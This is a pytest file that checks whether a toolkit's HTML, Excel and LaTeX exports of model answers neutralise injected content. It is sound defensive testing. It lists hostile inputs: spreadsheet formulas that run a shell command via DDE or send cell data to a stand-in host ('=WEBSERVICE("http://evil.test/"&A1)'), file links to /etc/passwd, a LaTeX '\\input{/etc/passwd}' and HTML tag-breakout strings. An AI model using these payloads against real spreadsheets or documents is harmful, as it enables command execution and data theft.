"""What a model writes stays text in the files that are handed over: pages, workbooks, LaTeX."""

from __future__ import annotations

import re
import zipfile

import html5lib
import openpyxl
import pytest
from hypothesis import given, settings

from tests.results import payloads, runs
from tests.results.test_export_round_trip import TEXTS
from tests.results.test_security import hostile
from toolkit.results import Results

# Each payload as it is, and behind what would close the place that it stands in.
BREAKOUTS = ("", '"', "'", "</td></tr></table>", "</title></style>--><p>")
CORPUS = list(dict.fromkeys(f"{out}{payload}" for payload in payloads.HTML for out in BREAKOUTS))

FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.test","x")', "{=1+1}",
    '=WEBSERVICE("http://evil.test/"&A1)', '=IMPORTXML("http://evil.test","//a")', "\t=1", "\r=1", "\n=1", " =1",
    "\u00a0=1", "\u200b=1", "\ufeff=1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20x", "-2+3+cmd|' /C calc'!D2",
    "=1;=2", "'=1", "\"=1\"", "=\x00", "http://evil.test", "https://evil.test/?q=1", "mailto:a@evil.test", "ftp://evil.test",
    "internal:Sheet2!A1", "external:c:\\x.xlsx", "file:///etc/passwd", "#N/A", "#REF!", "TRUE", "1e5", "007",
    "<r><t>raw</t></r>", "_x0041_", "]]>", "&amp;", "<is><t>x</t></is>", "1/2",
]  # fmt: skip


def parsed(page):
    """Returns every element of a page with its attributes, as a browser's parser builds them, and its comments."""
    tree = html5lib.parse(page, treebuilder="etree", namespaceHTMLElements=False)
    elements = [(node.tag, dict(node.attrib)) for node in tree.iter() if isinstance(node.tag, str)]
    comments = [node for node in tree.iter() if not isinstance(node.tag, str)]
    return elements, comments


def page_of(results, folder):
    """Returns the HTML report as text."""
    return results.export(folder / "x.html").read_text("utf-8")


def test_corpus_is_large():
    """The corpus has at least 200 payloads, all different."""
    assert len(CORPUS) >= 200


@pytest.mark.parametrize("part", range(10))
def test_a_page_has_no_element_of_foreign_text(tmp_path, part):
    """A parser finds the same elements and attributes in a report, in the same order, whatever stands in the run."""
    plain = parsed(page_of(hostile("harmless"), tmp_path))
    for payload in CORPUS[part::10]:
        found = parsed(page_of(hostile(payload), tmp_path))
        assert found == plain, payload


@settings(max_examples=40, deadline=None)
@given(text=TEXTS)
def test_any_text_can_be_handed_over(tmp_path_factory, text):
    """Whatever stands in a run, its page has our elements alone, its workbook opens, and its LaTeX is UTF-8."""
    folder = tmp_path_factory.mktemp("x")
    results = hostile(text or "x")
    assert parsed(page_of(results, folder)) == parsed(page_of(hostile("harmless"), folder))
    (book, report) = (results.export(folder / name) for name in ("x.xlsx", "x.tex"))
    kinds = {cell.data_type for row in openpyxl.load_workbook(book).worksheets[0].iter_rows() for cell in row}
    assert kinds <= {"s", "n", "b", "inlineStr"}
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", report.read_bytes().decode("utf-8"))


def test_a_page_stands_alone(tmp_path):
    """A report forbids by its policy whatever loads or runs, before anything else, and names no address."""
    page = page_of(hostile("harmless"), tmp_path)
    elements, _ = parsed(page)
    policies = [attributes for tag, attributes in elements if attributes.get("http-equiv")]
    (policy,) = policies
    assert policy["content"].startswith("default-src 'none'; style-src 'unsafe-inline'; img-src data:")
    assert page.index("Content-Security-Policy") < page.index("<title>")
    assert {tag for tag, _ in elements}.isdisjoint({"script", "img", "a", "link", "iframe", "form", "svg", "object"})
    assert "//" not in page
    assert "url(" not in page


@pytest.mark.parametrize("kind", ["html", "md", "tex"])
def test_a_report_has_every_answer_and_the_verdict(tmp_path, kind):
    """Each report has the run, each arm with its interval and gap, every case's answer, and what stands for none."""
    view = runs.run(
        [["alpha", "beta"] * 4, ["gamma", runs.failure()] * 4], scores={"right": [[0, 1] * 4, [1, None] * 4]}
    )
    report = Results(view).export(tmp_path / f"x.{kind}").read_text("utf-8")
    for word in ("run", "right: gap to the baseline", "alpha", "beta", "gamma", "failed", "+100.0 points"):
        assert word in report, word
    short = Results(view).export(tmp_path / f"y.{kind}", view="summary").read_text("utf-8")
    assert "right: gap to the baseline" in short
    assert "alpha" not in short


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("\\input{/etc/passwd}", r"\textbackslash{}input\{/etc/passwd\}"),
        ("50% & $x_1^2$ #1 ~", r"50\% \& \$x\_1\textasciicircum{}2\$ \#1 \textasciitilde{}"),
        ("<a|b>", r"\textless{}a\textbar{}b\textgreater{}"),
        ("[x] --", "{[}x{]} {-}{-}"),
        ("``a", r"\textasciigrave{}\textasciigrave{}a"),
        ("one\ntwo", r"one\newline{}two"),
        ("\x1b\u202e", r"\textbackslash{}x1b\textbackslash{}u202e"),
    ],
)
def test_latex_runs_nothing(tmp_path, text, shown):
    """No letter of an answer is a command, a comment, a column or a formula of LaTeX."""
    assert f"& {shown} " in Results(runs.run([[text]])).export(tmp_path / "x.tex").read_text("utf-8").replace(
        "0     &", "&"
    )


def sheet_of(results, folder, **options):
    """Returns the first sheet of the workbook, as another reader has it."""
    return openpyxl.load_workbook(results.export(folder / "x.xlsx", **options)).worksheets[0]


def cells_of(sheet):
    """Returns a dict a row, by the names of the first one."""
    header, *rows = sheet.iter_rows(values_only=True)
    return [dict(zip(header, row, strict=True)) for row in rows]


@pytest.mark.parametrize("payload", FORMULAS)
def test_a_workbook_has_no_formula_and_no_link(tmp_path, payload):
    """A workbook read again has no formula, no error value and no link, whatever stands anywhere in the run."""
    path = hostile(payload).export(tmp_path / "x.xlsx")
    for sheet in openpyxl.load_workbook(path).worksheets:
        for row in sheet.iter_rows():
            # The reader leaves the type of an empty text as it stands in the file.
            assert {cell.data_type for cell in row if cell.value is not None} <= {"s", "n", "b"}
            assert {cell.data_type for cell in row} <= {"s", "n", "b", "inlineStr"}
            assert not any(cell.hyperlink for cell in row)
    with zipfile.ZipFile(path) as file:
        assert not [name for name in file.namelist() if "external" in name.lower()]
        sheets = [file.read(name).decode() for name in file.namelist() if "worksheets/" in name]
    assert sheets
    assert not any("<f>" in text or "hyperlink" in text for text in sheets)


@pytest.mark.parametrize(
    "text", ["=1+1", "http://evil.test", "#N/A", "<r><t>raw</t></r>", "]]>&lt;", "1e5", "007", " a ", "\U0001f600"]
)
def test_a_workbook_keeps_texts(tmp_path, text):
    """A text in a workbook is that text, not what a spreadsheet would make of it."""
    (row,) = cells_of(sheet_of(Results(runs.run([[text]])), tmp_path))
    assert row["text"] == text


@pytest.mark.parametrize(
    ("text", "inside"),
    [
        ("a\x00b", "a_x0000_b"),
        ("a\rb", "a_x000D_b"),
        ("\ufffe", "_xFFFE_"),
        ("_x0041_", "_x005F_x0041_"),
        ("\ud800", "\\ud800"),
    ],
)
def test_a_workbook_escapes_what_xml_cannot_hold(tmp_path, text, inside):
    """A control character is Excel's escape for it, and a text that looks like one stays that text."""
    path = Results(runs.run([[text]])).export(tmp_path / "x.xlsx")
    with zipfile.ZipFile(path) as file:
        assert f">{inside}</t>" in file.read("xl/worksheets/sheet1.xml").decode()


def test_a_long_text_is_split_and_marked(tmp_path):
    """A text beyond 32,767 characters goes on in further columns, in order and whole, and its row says so."""
    text = "".join(f"{number:07d}" for number in range(10_000)) + "\U0001f600" * 20_000
    first, second = cells_of(sheet_of(Results(runs.run([[text, "short"]])), tmp_path))
    parts = [first["text"], *(first[f"text ({number})"] for number in (2, 3, 4))]
    assert "".join(parts) == text
    assert all(len(part.encode("utf-16-le")) <= 2 * 32_767 for part in parts)
    assert first["split_cells"] == "text: 4 cells"
    assert (second["text"], second["split_cells"]) == ("short", None)


def test_a_workbook_says_where_it_comes_from(tmp_path):
    """The second sheet has the run, the version of the package, and each arm with its prompt's hash and model."""
    view = runs.run([["a"], ["b"]])
    book = openpyxl.load_workbook(Results(view).export(tmp_path / "x.xlsx"))
    assert book.sheetnames == ["trials", "provenance"]
    facts = dict(book["provenance"].iter_rows(values_only=True, min_row=2))
    assert facts["run"] == "run-1"
    assert facts["arm 0"] == "reply@1 (baseline)"
    assert facts["arm 1: prompt"] == f"folder:reply@2, {view.arms[1].prompt.fingerprint}"
    assert re.fullmatch(r"\d+\.\d+\.\d+.*", facts["promptsweep"])


def test_a_workbook_is_easy_to_read(tmp_path):
    """The header stays in sight, texts wrap, and numbers are numbers."""
    sheet = sheet_of(Results(runs.run([["a"], ["b"]], scores={"right": [[0.5], [1]]})), tmp_path, view="summary")
    header = [cell.value for cell in sheet[1]]
    assert sheet.freeze_panes == "A2"
    assert sheet["A2"].alignment.wrap_text
    assert sheet.cell(2, header.index("score.right") + 1).value == 0.5
